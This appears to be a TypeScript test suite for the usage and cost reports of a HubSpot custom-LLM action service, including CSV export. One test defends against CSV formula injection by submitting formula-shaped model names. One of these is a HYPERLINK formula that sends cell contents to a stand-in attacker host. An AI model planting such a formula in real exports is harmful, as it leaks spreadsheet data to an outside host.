import t, { type Test } from 'tap'
import { buildApp } from '../helpers/build-app.ts'
import { executionBody, signedHeaders } from '../helpers/hubspot-request.ts'
import { FORMULA_START, spreadsheetCells } from '../helpers/spreadsheet-csv.ts'
import { OPENAI_GOOD_KEY, openAIError, openAIResponse, startOpenAIStub } from '../stubs/openai-stub.ts'

const PATH = '/hubspot/actions/custom-llm'
/** gpt-4.1 (2 / 0.5 / 8) and gpt-4.1-mini (0.4 / 0.1 / 1.6) for the stub's 12 input (2 cached) and 20 output tokens. */
const GPT_41 = 0.000181
const GPT_41_MINI = (10 * 0.4 + 2 * 0.1 + 20 * 1.6) / 1e6

/** The app on a clock the test sets: executions land on chosen days. */
async function reportingApp (t: Test) {
  const stub = await startOpenAIStub()
  t.teardown(() => stub.close())
  // Like OpenAI, the stub refuses a model it does not have; the workflow's model is recorded all the same.
  stub.on('POST /v1/responses', stub.guarded(request => String(request.json?.model).startsWith('gpt-')
    ? { body: openAIResponse('Hi', { model: request.json?.model }) }
    : openAIError(400, 'The requested model does not exist.', 'model_not_found', 'model')))
  const time = { now: Date.parse('2026-03-10T12:00:00Z') }
  const built = await buildApp(t, { OPENAI_BASE_URL: stub.baseUrl }, { clock: () => time.now })
  for (const portal of [71, 72, 73]) {
    await built.app.inject({ method: 'PUT', url: `/api/portals/${portal}/connections/openai`, headers: built.admin, payload: { apiKey: OPENAI_GOOD_KEY } })
  }
  const run = async (portal: number, at: string, model: string, action: 'custom-llm' = 'custom-llm') => {
    time.now = Date.parse(at)
    const payload = JSON.stringify(executionBody(portal, { provider: 'openai', model, prompt: 'Say hi' }))
    const response = await built.app.inject({ method: 'POST', url: `/hubspot/actions/${action}`, headers: signedHeaders('POST', PATH, payload), payload })
    t.equal(response.json().outputFields?.hs_execution_state, 'SUCCESS', response.body)
  }
  await run(71, '2026-02-28T23:59:59Z', 'gpt-4.1')
  await run(71, '2026-03-01T00:00:00Z', 'gpt-4.1')
  await run(71, '2026-03-01T08:00:00Z', 'gpt-4.1-mini')
  await run(71, '2026-03-02T10:00:00Z', 'gpt-4.1')
  await run(72, '2026-03-05T10:00:00Z', 'gpt-4.1-mini')
  await run(73, '2026-03-05T11:00:00Z', 'gpt-4.1')
  await run(73, '2026-03-06T11:00:00Z', 'gpt-4.1')
  time.now = Date.parse('2026-03-10T12:00:00Z')
  const get = async (url: string, headers: Record<string, string> = {}) => await built.app.inject({ url, headers: { ...built.admin, ...headers } })
  return { ...built, get }
}

const near = (t: Test, actual: number, expected: number, what: string) => t.ok(Math.abs(actual - expected) < 1e-9, `${what}: ${actual} ≈ ${expected}`)

t.test('a portal\'s usage: the current UTC month by default, grouped by model, provider, action or day', async t => {
  const { get } = await reportingApp(t)
  const byModel = (await get('/api/portals/71/usage')).json()
  t.equal(byModel.from, '2026-03-01T00:00:00.000Z')
  t.equal(byModel.to, '2026-04-01T00:00:00.000Z')
  t.match(byModel.items, [
    { provider: 'openai', model: 'gpt-4.1', executions: 2, errors: 0, inputTokens: 24, cachedInputTokens: 4, outputTokens: 40, reasoningTokens: 16, unpricedExecutions: 0 },
    { provider: 'openai', model: 'gpt-4.1-mini', executions: 1 }
  ])
  near(t, byModel.items[0].costUsd, 2 * GPT_41, 'gpt-4.1')
  near(t, byModel.totals.costUsd, 2 * GPT_41 + GPT_41_MINI, 'totals')
  t.equal(byModel.totals.executions, 3, 'February 28 is outside the month')

  const byProvider = (await get('/api/portals/71/usage?groupBy=provider')).json()
  t.same(byProvider.items.map((row: Record<string, unknown>) => [row.provider, row.executions, 'model' in row]), [['openai', 3, false]])
  const byAction = (await get('/api/portals/71/usage?groupBy=action')).json()
  t.same(byAction.items.map((row: Record<string, unknown>) => [row.action, row.executions]), [['custom-llm', 3]])
  const byDay = (await get('/api/portals/71/usage?groupBy=day&from=2026-02-01')).json()
  t.same(byDay.items.map((row: Record<string, unknown>) => [row.day, row.executions]), [['2026-02-28', 1], ['2026-03-01', 2], ['2026-03-02', 1]])
})

t.test('date ranges: to is exclusive, datetimes with a zone, bad ranges refused', async t => {
  const { get } = await reportingApp(t)
  const oneDay = (await get('/api/portals/71/usage?from=2026-03-01&to=2026-03-02&groupBy=day')).json()
  t.same(oneDay.items.map((row: Record<string, unknown>) => row.day), ['2026-03-01'])
  const morning = (await get('/api/portals/71/usage?from=2026-03-01T00:00:01Z&to=2026-03-01T09:00:00%2B01:00')).json()
  t.equal(morning.totals.executions, 0, 'the 08:00Z run is after 09:00+01:00, the midnight one before the start')
  for (const query of ['from=yesterday', 'from=2026-02-31', 'to=2026-03-01T10:00', 'from=2026-03-05&to=2026-03-01', 'groupBy=week']) {
    const response = await get(`/api/portals/71/usage?${query}`)
    t.equal(response.statusCode, 400, query)
    t.equal(response.json().code, 'INVALID_INPUT', query)
  }
})

t.test('CSV: a header row, RFC 4180 lines, text/csv', async t => {
  const { get } = await reportingApp(t)
  const response = await get('/api/portals/71/usage', { accept: 'text/csv' })
  t.equal(response.headers['content-type'], 'text/csv; charset=utf-8')
  const lines = response.body.split('\r\n')
  t.equal(lines[0], 'provider,model,executions,errors,inputTokens,cachedInputTokens,outputTokens,reasoningTokens,costUsd,unpricedExecutions,economyExecutions,economyCostUsd,savedUsd')
  t.equal(lines[1], `openai,gpt-4.1,2,0,24,4,40,16,${2 * GPT_41},0,0,0,0`, 'standard executions only: no economy cost, nothing saved')
  t.equal(lines.at(-1), '', 'ends with a line break')
  t.equal(lines.length, 4)
})

t.test('every portal\'s spend, the biggest first, as JSON or CSV', async t => {
  const { get } = await reportingApp(t)
  const report = (await get('/api/usage')).json()
  t.same(report.items.map((row: { portalId: number }) => row.portalId), [71, 73, 72])
  near(t, report.items[0].costUsd, 2 * GPT_41 + GPT_41_MINI, 'portal 71')
  t.equal(report.totals.executions, 6)
  const march5 = (await get('/api/usage?from=2026-03-05&to=2026-03-06')).json()
  t.same(march5.items.map((row: { portalId: number }) => row.portalId), [73, 72])
  const csv = await get('/api/usage', { accept: 'text/csv' })
  t.equal(csv.headers['content-type'], 'text/csv; charset=utf-8')
  t.match(csv.body, /^portalId,executions,errors,inputTokens,cachedInputTokens,outputTokens,reasoningTokens,costUsd,unpricedExecutions,economyExecutions,economyCostUsd,savedUsd\r\n71,3,/)
})

t.test('CSV: a model a workflow names like a formula reaches every spreadsheet as text', async t => {
  const { app, get } = await reportingApp(t)
  const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=1+2', '@SUM(A1:A9)', '-2+3;=1+2']
  for (const model of formulas) {
    const payload = JSON.stringify(executionBody(71, { provider: 'openai', model, prompt: 'Say hi' }))
    const response = await app.inject({ method: 'POST', url: PATH, headers: signedHeaders('POST', PATH, payload), payload })
    t.equal(response.json().outputFields.errorCode, 'PROVIDER_REJECTED', model)
  }
  for (const url of ['/api/portals/71/usage?groupBy=model', '/api/portals/71/usage?groupBy=provider', '/api/portals/71/usage?groupBy=day', '/api/usage']) {
    const csv = (await get(url, { accept: 'text/csv' })).body
    for (const separator of [',', ';'] as const) {
      const cells = spreadsheetCells(csv, separator).flat()
      t.same(cells.filter(cell => FORMULA_START.test(cell)), [], `${url}, read with "${separator}": no cell starts a formula`)
    }
  }
  const byModel = spreadsheetCells((await get('/api/portals/71/usage?groupBy=model', { accept: 'text/csv' })).body)
  const quoted = byModel.map(row => row[1] ?? '').filter(model => model.startsWith("'"))
  t.same(quoted.sort(), [...formulas.slice(0, 3).map(model => `'${model}`), "'-2+3;'=1+2"].sort(), 'each model is there, as text')
  t.same(byModel.find(row => row[1] === "'=1+2")?.slice(2, 4), ['1', '1'], 'its counts stay numbers')
})
